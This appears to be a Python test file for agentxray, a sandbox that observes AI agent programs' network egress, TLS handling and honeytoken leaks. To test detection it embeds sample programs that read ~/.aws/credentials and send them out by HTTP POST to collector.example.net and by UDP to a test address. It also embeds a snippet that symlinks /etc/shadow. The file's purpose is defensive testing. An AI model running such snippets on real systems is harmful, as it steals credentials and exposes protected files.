"""Contained runs end to end: TLS under real names, certificate refusals, the proxy port, the
strict policy, and ``agentxray run -- COMMAND`` producing a schema-valid report."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import jsonschema
import pytest
from tests.observe.sandbox.conftest import PYTHON, Runner, needs_sandbox

from agentxray.cli.main import main
from agentxray.render.json import report_schema

pytestmark = needs_sandbox

MESSAGES = """
import json, urllib.request
body = {"model": "claude-x", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}
req = urllib.request.Request(
    "https://api.anthropic.com/v1/messages", data=json.dumps(body).encode(), method="POST",
    headers={"content-type": "application/json", "x-api-key": "k", "anthropic-version": "1"},
)
print(json.load(urllib.request.urlopen(req, timeout=10))["content"][0]["text"])
"""


def test_the_model_host_is_served_by_the_mock_under_its_real_name_over_tls(
    contained: Runner,
) -> None:
    run = contained(MESSAGES)
    assert run.exit_code == 0, run.stderr
    assert "agentxray mock" in run.stdout
    (http,) = [e for e in run.events if e.kind == "http"]
    assert (http.host, http.port, http.status) == ("api.anthropic.com", 443, 200)
    assert http.url == "https://api.anthropic.com/v1/messages"
    assert run.exchanges[0].dialect == "anthropic"
    assert not [e for e in run.events if e.kind in ("violation", "tls-refused")]


def test_a_client_that_refuses_our_certificate_is_recorded(contained: Runner) -> None:
    run = contained(
        textwrap.dedent(
            """
            import socket, ssl
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # trusts no CA at all: "pinning"
            raw = socket.create_connection(("statsig.anthropic.com", 443), timeout=5)
            try:
                ctx.wrap_socket(raw, server_hostname="statsig.anthropic.com")
                print("TRUSTED")
            except ssl.SSLError as exc:
                print("refused", exc.reason)
            """
        )
    )
    assert run.stdout.startswith("refused"), run.stdout + run.stderr
    (refused,) = [e for e in run.events if e.kind == "tls-refused"]
    assert (refused.host, refused.port) == ("statsig.anthropic.com", 443)


def test_the_regular_proxy_port_tunnels_into_the_same_recorder(contained: Runner) -> None:
    run = contained(
        textwrap.dedent(
            """
            import socket, ssl
            s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
            s.sendall(b"CONNECT updates.vendor.example:443 HTTP/1.1\\r\\n\\r\\n")
            print(s.recv(100).split(b"\\r\\n")[0].decode())
            t = ssl.create_default_context().wrap_socket(s, server_hostname="updates.vendor.example")
            t.sendall(b"GET /latest HTTP/1.1\\r\\nHost: updates.vendor.example\\r\\n\\r\\n")
            print(t.recv(100).split(b"\\r\\n")[0].decode())
            """
        )
    )
    lines = run.stdout.splitlines()
    assert lines == ["HTTP/1.1 200 Connection established", "HTTP/1.1 503 "], run.stderr
    (http,) = [e for e in run.events if e.kind == "http"]
    assert http.url == "https://updates.vendor.example/latest" and http.status == 503


def test_strict_blocks_a_hard_coded_address_and_keeps_the_model_host(contained: Runner) -> None:
    run = contained(
        MESSAGES
        + textwrap.dedent(
            """
            import socket
            s = socket.create_connection(("203.0.113.9", 443), timeout=5)
            print("closed" if s.recv(10) == b"" else "ANSWERED")
            """
        ),
        policy="strict",
    )
    assert run.stdout.splitlines()[-1] == "closed", run.stdout + run.stderr
    assert "agentxray mock" in run.stdout
    (violation,) = [e for e in run.events if e.kind == "violation"]
    assert (violation.host, violation.port, violation.blocked) == ("203.0.113.9", 443, True)


EXFIL = """
import os, urllib.request
data = open(os.path.expanduser("~/.aws/credentials")).read()
req = urllib.request.Request("https://collector.example.net/upload", data=data.encode())
try:
    urllib.request.urlopen(req, timeout=10)
except Exception as exc:
    print("answered", exc)
"""


def _run_json(
    tmp_path: Path, source: str, capsys: pytest.CaptureFixture[str], *extra: str
) -> dict[str, object]:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "prog.py").write_text(source)
    argv = ["run", "--scenario", "hello", "--workdir", str(tmp_path / "run"), "--workspace"]
    code = main([*argv, str(ws), "--format", "json", *extra, "--", str(PYTHON), "prog.py"])
    out = capsys.readouterr().out
    assert code == 0, out
    doc: dict[str, object] = json.loads(out)
    jsonschema.validate(doc, report_schema())
    return doc


def test_run_command_reports_a_planted_secret_sent_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _run_json(tmp_path, EXFIL, capsys)
    events = doc["events"]
    assert isinstance(events, list)
    hits = [e for e in events if e["kind"] == "honeytoken"]
    assert {(e["host"], e["path"]) for e in hits} == {
        ("collector.example.net", "~/.aws/credentials")
    }
    assert any(e["kind"] == "dns" and e["host"] == "collector.example.net" for e in events)
    findings = doc["findings"]
    assert isinstance(findings, list)
    exfil = [f for f in findings if f["category"] == "exfiltration"]
    assert exfil and all("~/.aws/credentials" in f["message"] for f in exfil)
    run = doc["run"]
    assert isinstance(run, dict) and run["policy"] == "audit" and run["exit_code"] == 0


def test_run_command_that_only_talks_to_its_model_has_no_secret_in_egress(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _run_json(tmp_path, MESSAGES, capsys, "--policy", "strict")
    events = doc["events"]
    assert isinstance(events, list)
    assert not [e for e in events if e["kind"] in ("honeytoken", "violation")]
    assert [e["host"] for e in events if e["kind"] == "http"] == ["api.anthropic.com"]
    findings = doc["findings"]
    assert isinstance(findings, list)
    assert not [f for f in findings if f["category"] == "exfiltration"]


PLANT_LINKS = """
import glob, os
os.symlink("/etc/shadow", "shadow-link")
if not glob.glob("/tmp/**/trace/trace.*", recursive=True):
    open("trace-hidden", "w").close()
"""


def test_links_are_not_followed_on_the_host_and_the_trace_is_out_of_reach(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "prog.py").write_text(PLANT_LINKS)
    argv = ["run", "--scenario", "hello", "--workdir", str(tmp_path / "run"), "--workspace"]
    code = main([*argv, str(ws), "--", str(PYTHON), "prog.py"])
    out = capsys.readouterr().out
    assert code == 0, out
    assert "shadow-link  -> /etc/shadow (link)" in out
    assert (ws / "trace-hidden").exists()  # the tracer's logs are out of the agent's sight
    assert list((tmp_path / "run" / "trace").glob("trace.*"))  # ...and were written


def test_absolute_url_requests_to_the_proxy_port_are_recorded(contained: Runner) -> None:
    run = contained(
        textwrap.dedent(
            """
            import socket
            s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
            s.sendall(b"GET http://metrics.vendor.example:8080/v1?x=1 HTTP/1.1\\r\\n")
            s.sendall(b"Host: metrics.vendor.example:8080\\r\\n\\r\\n")
            print(s.recv(100).split(b"\\r\\n")[0].decode())
            """
        )
    )
    assert run.stdout.strip() == "HTTP/1.1 503", run.stdout + run.stderr
    (http,) = [e for e in run.events if e.kind == "http"]
    assert (http.host, http.port) == ("metrics.vendor.example", 8080)
    assert http.url == "http://metrics.vendor.example:8080/v1?x=1"


PROFILE = """
name: env-probe
packages: ["env-probe"]
default_spec: "npm:env-probe@1.0.0"
program: bin/env-probe
dialect: anthropic
argv: ["{program}"]
env:
  KEEP_ME: "1"
  QUIET_ON_HOST: "1"
host_only_env: [QUIET_ON_HOST]
"""


def test_host_only_variables_are_left_out_in_the_sandbox(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    profile = tmp_path / "env-probe.yaml"
    profile.write_text(PROFILE)
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "prog.py").write_text(
        "import os\nopen('env.txt', 'w').write(' '.join(sorted(os.environ)))"
    )
    argv = ["run", "--scenario", "hello", "--workdir", str(tmp_path / "run"), "--workspace"]
    argv += [str(ws), "--profile", str(profile), "--", str(PYTHON), "prog.py"]
    assert main(argv) == 0, capsys.readouterr().out
    names = (ws / "env.txt").read_text().split()
    assert "KEEP_ME" in names and "QUIET_ON_HOST" not in names
    assert not [n for n in names if "PROXY" in n.upper()]  # the redirect needs no proxy variables


UDP_EXFIL = """
import os, socket
key = open(os.path.expanduser("~/.aws/credentials")).read()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(key.encode(), ("203.0.113.50", 9999))
"""


def test_a_secret_in_a_udp_datagram_is_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _run_json(tmp_path, UDP_EXFIL, capsys)
    events = doc["events"]
    assert isinstance(events, list)
    hits = [e for e in events if e["kind"] == "honeytoken"]
    assert {(e["host"], e["path"]) for e in hits} == {("203.0.113.50", "~/.aws/credentials")}
    assert all("udp packet" in e["detail"] for e in hits)


def test_every_run_is_kept_in_the_run_store(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], own_store: Path
) -> None:
    from agentxray.store.runs import RunStore

    doc = _run_json(tmp_path, EXFIL, capsys)
    store = RunStore(own_store)
    try:
        (stored,) = store.list_runs()
        full = store.load_run(stored.id)
    finally:
        store.close()
    assert full is not None and full.complete and full.exit_code == 0
    run = doc["run"]
    assert isinstance(run, dict) and run["id"] == str(stored.id)
    assert [e.kind for e in full.events] == [e["kind"] for e in doc["events"]]  # type: ignore[index,union-attr]
    assert {f.category for f in full.findings} >= {"exfiltration"}


def test_a_killed_run_stays_on_the_record_as_incomplete(tmp_path: Path, own_store: Path) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    from agentxray.store.runs import RunStore

    ws = tmp_path / "ws"
    ws.mkdir()
    prog = f"prog-{os.getpid()}-{time.monotonic_ns()}.py"  # a name to look for afterwards
    (ws / prog).write_text("import time\nopen('started', 'w').close()\ntime.sleep(60)\n")
    cli = [sys.executable, "-m", "agentxray.cli.main", "run", "--scenario", "hello"]
    cli += ["--workspace", str(ws), "--", str(PYTHON), prog]
    proc = subprocess.Popen(cli, env={**os.environ, "AGENTXRAY_STORE": str(own_store)})
    try:
        deadline = time.monotonic() + 60
        while not (ws / "started").exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert (ws / "started").exists()
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    store = RunStore(own_store)
    try:
        (stored,) = store.list_runs()
    finally:
        store.close()
    assert not stored.complete and stored.exit_code is None
    time.sleep(1)  # the kernel delivers the parent-death signals
    left = [
        p.parent.name
        for p in Path("/proc").glob("[0-9]*/cmdline")
        if _reads(p) and prog.encode() in _reads(p)
    ]
    assert left == []  # nothing of the run outlives agentxray


def _reads(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""
